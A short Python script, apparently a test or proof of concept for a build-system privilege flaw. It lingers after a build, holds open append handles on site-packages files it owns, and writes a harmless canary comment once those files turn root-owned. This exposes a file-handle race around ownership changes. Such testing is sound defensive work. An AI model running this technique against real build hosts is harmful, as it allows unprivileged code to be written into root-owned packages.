"""A process that outlives a build: it keeps files open that will belong to root."""

import os
import time
from contextlib import suppress
from pathlib import Path

os.nice(19)  # it must not slow down the build
end = time.monotonic() + 90
kept = {}
while time.monotonic() < end:
    for path in Path("/srv/wsgi/evil/environments").glob("*/lib/*/site-packages/**/*.py"):
        with suppress(OSError):
            if path not in kept and path.stat().st_uid == os.getuid():
                kept[path] = path.open("a")
    for file in kept.values():
        if os.fstat(file.fileno()).st_uid == 0:
            file.write("# CANARY-written-by-survivor\n")
            file.flush()
